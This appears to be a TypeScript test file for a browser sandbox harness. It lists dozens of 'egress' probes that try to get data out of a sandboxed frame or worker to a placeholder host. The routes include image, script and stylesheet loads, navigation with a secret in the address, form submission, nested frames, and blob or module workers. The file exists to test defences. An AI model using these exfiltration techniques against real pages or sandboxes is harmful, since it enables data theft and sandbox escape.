import type { Evidence, Probe } from "../probe.ts";

type Given = Omit<Probe, "family" | "attack" | "name">;

/** Attacks that need a document: they succeed in a frame of the page. */
function egress(name: string, attack: string, given: Partial<Given> = {}): Probe {
  return { family: "egress", control: "frame", ...given, name, attack: `async () => { ${attack} }` };
}

const opens = ({ hits, events }: Evidence) => hits.length > 0 || events.some((text) => text.includes("window"));
const html = (text: string) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(text)});`;

/** Loads that a document makes by itself. */
export const egressLoads: Probe[] = [
  egress("image", "new Image().src = '__OUT__/image.svg';"),
  egress("image in markup", html("<img src='__OUT__/markup.svg'>")),
  egress("image set", html("<img srcset='__OUT__/set.svg 1x'>")),
  egress("image of an error handler", html("<img src='data:,' onerror='new Image().src = \"__OUT__/handler\"'>")),
  egress("image input", html("<input type='image' src='__OUT__/input.svg'>")),
  egress("image in SVG", html("<svg><image href='__OUT__/image.svg'/></svg>")),
  egress("video", html("<video src='__OUT__/video.mp4' preload='auto'></video>")),
  egress("video poster", html("<video poster='__OUT__/poster.svg'></video>")),
  egress("audio", "new Audio('__OUT__/audio.mp3').load();"),
  egress(
    "text track",
    html("<video crossorigin src='data:video/mp4,'><track src='__OUT__/track.vtt' default kind='subtitles'></video>") +
      "document.querySelector('video').textTracks[0].mode = 'showing';",
  ),
  egress("object", html("<object data='__OUT__/object.html'></object>")),
  egress("embed", html("<embed src='__OUT__/embed.html' type='text/html'>")),
  egress("style sheet", html("<link rel='stylesheet' href='__OUT__/style.css'>")),
  egress("style sheet import", html("<style>@import '__OUT__/import.css';</style>")),
  egress("style background", html("<div style='background: url(__OUT__/background.svg)'>text</div>")),
  egress(
    "style font",
    html("<style>@font-face { font-family: f; src: url(__OUT__/font.woff); } p { font-family: f; }</style><p>text</p>"),
  ),
  egress(
    "constructed style sheet",
    `const s = new CSSStyleSheet(); s.replaceSync("body { background: url(__OUT__/sheet.svg) }"); document.adoptedStyleSheets = [s];`,
  ),
  egress("script", "const s = document.createElement('script'); s.src = '__OUT__/script.js'; document.head.append(s);"),
  egress(
    "module script",
    "const s = document.createElement('script'); s.type = 'module'; s.src = '__OUT__/module.js'; document.head.append(s);",
  ),
  egress("link preload", html("<link rel='preload' as='image' href='__OUT__/preload.svg'>")),
  egress(
    "link modulepreload",
    "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = '__OUT__/module.js'; document.head.append(l);",
  ),
  egress("link prefetch", html("<link rel='prefetch' href='__OUT__/prefetch'>")),
  egress("link preconnect", html("<link rel='preconnect' href='http://127.0.0.1:__TCP__'>"), {
    ports: true,
    profile: "ordinary",
  }),
  egress("link dns-prefetch", html("<link rel='dns-prefetch' href='http://__LOOKUP__'>"), {
    profile: "ordinary",
    unprovable: { webkit: NO_LOOKUPS() },
  }),
  egress("link icon", html("<link rel='icon' href='__OUT__/icon.svg'>"), {
    unprovable: { chromium: NO_ICONS(), firefox: NO_ICONS(), webkit: NO_ICONS() },
  }),
  egress("link manifest", html("<link rel='manifest' href='__OUT__/manifest.json'>"), {
    unprovable: { chromium: NO_ICONS(), firefox: NO_ICONS(), webkit: NO_ICONS() },
  }),
  egress(
    "speculation rules",
    `const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["__OUT__/speculation.html"], eagerness: "immediate" }] });
    document.head.append(s);`,
    {
      unprovable: {
        chromium: "speculation rules work in the top document only",
        firefox: "Firefox has no speculation rules",
        webkit: "WebKit has no speculation rules",
      },
    },
  ),
  egress(
    "XSLT",
    `const p = new XSLTProcessor();
    p.importStylesheet(new DOMParser().parseFromString("<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='__OUT__/sheet.xsl'/></xsl:stylesheet>", "text/xml"));`,
    {
      unprovable: { chromium: NO_XSLT(), webkit: NO_XSLT() },
    },
  ),
];

/** Ways to go elsewhere, with a secret in the address. */
export const egressNavigation: Probe[] = [
  egress("navigate by location.href", "location.href = '__OUT__/href.html?secret';"),
  egress("navigate by location.assign", "location.assign('__OUT__/assign.html');"),
  egress("navigate by location.replace", "location.replace('__OUT__/replace.html');"),
  egress("navigate by self.location", "globalThis.location = '__OUT__/self.html';"),
  egress("navigate by document.location", "document.location = '__OUT__/document.html';"),
  egress("navigate by the Navigation API", "navigation.navigate('__OUT__/navigation.html');"),
  egress("navigate by meta refresh", html("<meta http-equiv='refresh' content='0; url=__OUT__/refresh.html'>")),
  egress(
    "navigate by clicking a link",
    html("<a id='a' href='__OUT__/link.html'>x</a>") + "document.querySelector('#a').click();",
  ),
  egress(
    "navigate by clicking a link in SVG",
    html("<svg><a id='b' href='__OUT__/svg.html'><text>x</text></a></svg>") +
      "document.querySelector('#b').dispatchEvent(new MouseEvent('click', { bubbles: true }));",
  ),
  egress(
    "navigate by a link's ping",
    html("<a id='a' href='#' ping='__OUT__/ping'>x</a>") + "document.querySelector('#a').click();",
    { unprovable: { firefox: "Firefox has pings switched off" } },
  ),
  egress("navigate by window.open onto itself", "open('__OUT__/open.html', '_self');"),
  egress(
    "navigate by a javascript: address",
    "location.href = 'javascript:location.replace(\"__OUT__/javascript.html\")';",
  ),
  egress(
    "navigate by document.write",
    "document.open(); document.write('<meta http-equiv=refresh content=\"0; url=__OUT__/write.html\">'); document.close();",
  ),
  egress("navigate the page above", "parent.location = '__OUT__/parent.html';"),
  egress("navigate the top page", "top.location.href = '__OUT__/top.html';"),
  egress("open a window", "open('__OUT__/window.html');", { breached: opens }),
  egress("open a window without an opener", "open('__OUT__/window.html', '_blank', 'noopener');", { breached: opens }),
  egress(
    "submit a form by GET",
    html("<form id='f' action='__OUT__/get.html'><input name='q' value='secret'></form>") +
      "document.querySelector('#f').submit();",
  ),
  egress(
    "submit a form by POST",
    html("<form id='f' method='post' action='__OUT__/post.html'><input name='q' value='secret'></form>") +
      "document.querySelector('#f').submit();",
  ),
  egress(
    "submit a form into a new window",
    html("<form id='f' target='_blank' action='__OUT__/blank.html'></form>") + "document.querySelector('#f').submit();",
    { breached: opens },
  ),
  egress(
    "download by a link",
    html("<a id='a' href='data:text/plain,secret' download='secret.txt'>x</a>") +
      "document.querySelector('#a').click(); await new Promise((f) => setTimeout(f, 300));",
    { breached: ({ events }) => events.some((text) => text.includes("download")) },
  ),
  egress(
    "download from outside",
    html("<a id='a' href='__OUT__/file.bin' download>x</a>") + "document.querySelector('#a').click();",
  ),
  egress("nested frame", html("<iframe src='__OUT__/frame.html'></iframe>")),
  egress("nested frame with a document of its own", html("<iframe srcdoc='<img src=__OUT__/srcdoc.svg>'></iframe>")),
  egress(
    "nested frame with a data: document",
    html("<iframe src='data:text/html,<img src=__OUT__/data.svg>'></iframe>"),
  ),
  egress(
    "fenced frame",
    "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig('__OUT__/fenced.html'); document.body.append(f);",
    {
      unprovable: {
        chromium: "fenced frames need a secure origin with attestation",
        firefox: "Firefox has no fenced frames",
        webkit: "WebKit has no fenced frames",
      },
    },
  ),
  egress(
    "handler of a protocol",
    "navigator.registerProtocolHandler('web+secret', '__OUT__/%s'); location.href = 'web+secret:x';",
    {
      unprovable: { chromium: NEEDS_PERSON(), firefox: NEEDS_PERSON(), webkit: NEEDS_PERSON() },
    },
  ),
];

/** Threads that could make the requests. */
export const egressWorkers: Probe[] = [
  thread(
    "nested Worker from a blob",
    'new Worker(URL.createObjectURL(new Blob([\'fetch("__OUT__/blob", { mode: "no-cors" })\'])));',
  ),
  thread(
    "nested Worker from data:",
    'new Worker(\'data:text/javascript,fetch("__OUT__/data", { mode: "no-cors" })\');',
  ),
  thread(
    "nested Worker from outside",
    "new Worker('__OUT__/worker.js'); await new Promise((f) => setTimeout(f, 200));",
    {
      control: "frame",
      unprovable: { chromium: CROSS(), firefox: CROSS(), webkit: CROSS() },
    },
  ),
  thread(
    "nested module Worker",
    "new Worker('data:text/javascript,import \"__OUT__/module.js\"', { type: 'module' });",
  ),
  thread(
    "nested Worker by the guest's own address",
    `
    const address = /(blob:[^\\s)]+?)(?::\\d+)*\\)?$/m.exec(new Error().stack)[1];
    const worker = new Worker(address); worker.postMessage(["fetch('__OUT__/own')"]);
    await new Promise((f) => setTimeout(f, 200));`,
    {
      notFor: { quickjs: NO_ADDRESS() },
      controlAttack:
        "async () => { const worker = new Worker(location.href.startsWith('blob:') ? URL.createObjectURL(new Blob(['fetch(\"__OUT__/own\", { mode: \"no-cors\" })'])) : ''); await new Promise((f) => setTimeout(f, 200)); }",
    },
  ),
  thread(
    "import() of the guest's own address",
    `
    const address = /(blob:[^\\s)]+?)(?::\\d+)*\\)?$/m.exec(new Error().stack)[1];
    const module = await import(address); await import("__OUT__/after.js"); return Object.keys(module);`,
    { notFor: { quickjs: NO_ADDRESS() } },
  ),
  thread(
    "shared Worker",
    'new SharedWorker(URL.createObjectURL(new Blob([\'fetch("__OUT__/shared", { mode: "no-cors" })\'])));',
    { control: "frame" },
  ),
  thread(
    "service worker",
    "await navigator.serviceWorker.register('/__TOKEN__/worker.js', { scope: '/__TOKEN__/' });",
    { control: "frame", breached: ({ changes = [] }) => changes.some((text) => text.includes("service workers")) },
  ),
  thread(
    "worklet within a Worker",
    "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('data:text/javascript,import \"__OUT__/worklet.js\"');",
    { control: "frame" },
  ),
];

function thread(name: string, attack: string, given: Partial<Given> = {}): Probe {
  return { family: "egress", control: "worker", ...given, name, attack: `async () => { ${attack} }` };
}

function NO_ADDRESS(): string {
  return "what runs in the engine has no address";
}

function NO_ICONS(): string {
  return "only a browser window with its own surroundings loads these, and only for the top document";
}

function NO_LOOKUPS(): string {
  return "this browser does not say which names it looks up";
}

function NO_XSLT(): string {
  return "this browser's XSLT loads nothing";
}

function NEEDS_PERSON(): string {
  return "the browser asks a person first";
}

function CROSS(): string {
  return "browsers refuse Workers of other origins before they ask for them";
}
